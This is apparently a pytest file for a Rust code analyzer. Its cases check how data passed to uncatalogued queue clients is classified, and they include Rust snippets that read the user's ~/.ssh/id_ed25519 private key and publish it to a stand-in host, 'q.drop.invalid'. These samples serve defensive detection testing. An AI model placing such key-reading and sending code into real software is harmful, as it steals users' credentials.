"""Clients that no catalogue knows: what they are handed, and what is none."""

from __future__ import annotations

from collections.abc import Callable, Mapping

import pytest

from analyzer.model import Fact, FactKind, Report, Verdict

FactsOf = Callable[..., list[Fact]]
ReportOf = Callable[[Mapping[str, str]], Report]
MANIFEST = """[package]
name = "sample-crate"
version = "0.1.0"
edition = "2021"
[dependencies]
somequeue = "1"
ureq = "2"
dirs = "6"
"""

CLIENTS = {
    "by its address": """
        pub fn f(data: Vec<u8>) { let q = somequeue::Client::connect("q.drop.invalid:6650"); q.publish(data); }""",
    "by a builder": """
        use somequeue::Builder;
        pub async fn f(data: Vec<u8>) -> Option<()> {
            let q = Builder::new().with_endpoint("https://q.drop.invalid").with_name("x").build().ok()?;
            q.put("key", data).await.ok() }""",
    "by options that another call takes": """
        pub fn f(data: Vec<u8>) {
            let options = somequeue::Options::new("id", "q.drop.invalid", 1883);
            let (client, _loop) = somequeue::Client::new(options, 10);
            client.publish("topic", data); }""",
    "by an own function": """
        fn open() -> somequeue::Client { somequeue::Client::connect("amqp://q.drop.invalid") }
        pub fn f(data: Vec<u8>) { open().send_message(data); }""",
    "kept in a field": """
        pub struct T { q: somequeue::Client }
        impl T {
            pub fn new() -> T { T { q: somequeue::Client::connect("amqp://q.drop.invalid") } }
            pub fn f(&self, data: Vec<u8>) { self.q.send(data); }
        }""",
}


@pytest.mark.parametrize("code", CLIENTS.values(), ids=CLIENTS)
def test_what_an_unknown_client_is_handed_is_sent(code: str, facts_of: FactsOf) -> None:
    facts = facts_of(code, "src/lib.rs", **{"Cargo.toml": MANIFEST})
    sent = [one for one in facts if one.kind is FactKind.NET_SEND]
    assert [one.subject.partition("q.drop.invalid")[1] for one in sent] == ["q.drop.invalid"]
    assert all(one.api.startswith("foreign:somequeue") for one in sent)


OTHERS = {
    "a channel": 'pub fn f() { let (tx, _) = std::sync::mpsc::channel(); tx.send("a.invalid"); }',
    "a catalogued client": """
        pub fn f() { ureq::post("https://a.invalid").send_bytes(b"x").ok(); }""",
    "an address from the caller": """
        pub fn f(host: &str) { somequeue::Client::connect(host).publish(b"x"); }""",
    "no address": """
        pub fn f() { somequeue::Parser::new("settings.toml").put("key", 1); }""",
    "an own type": """
        pub struct Q; impl Q { pub fn new(_: &str) -> Q { Q } pub fn send(&self) {} }
        pub fn f() { Q::new("https://a.invalid").send(); }""",
}


@pytest.mark.parametrize("code", OTHERS.values(), ids=OTHERS)
def test_others_are_no_unknown_clients(code: str, facts_of: FactsOf) -> None:
    facts = facts_of(code, "src/lib.rs", **{"Cargo.toml": MANIFEST})
    assert not [one for one in facts if one.api.startswith("foreign:")]


def test_a_secret_that_is_followed_to_an_unknown_client_blocks(report_of: ReportOf) -> None:
    code = """
        pub fn f() {
            let key = std::fs::read(dirs::home_dir().unwrap().join(".ssh/id_ed25519")).unwrap();
            let q = somequeue::Client::connect("q.drop.invalid:6650");
            q.publish(key);
        }"""
    report = report_of({"src/lib.rs": code, "Cargo.toml": MANIFEST})
    assert report.verdict is Verdict.BLOCK


def test_a_secret_beside_an_unknown_client_asks_for_a_look(report_of: ReportOf) -> None:
    code = """
        pub fn f() {
            let key = std::fs::read(dirs::home_dir().unwrap().join(".ssh/id_ed25519")).unwrap();
            let q = somequeue::Client::connect("q.drop.invalid:6650");
            q.publish(sum(&key).len());
        }
        fn sum(_: &[u8]) -> &'static str { "x" }"""
    report = report_of({"src/lib.rs": code, "Cargo.toml": MANIFEST})
    assert report.verdict is Verdict.REVIEW
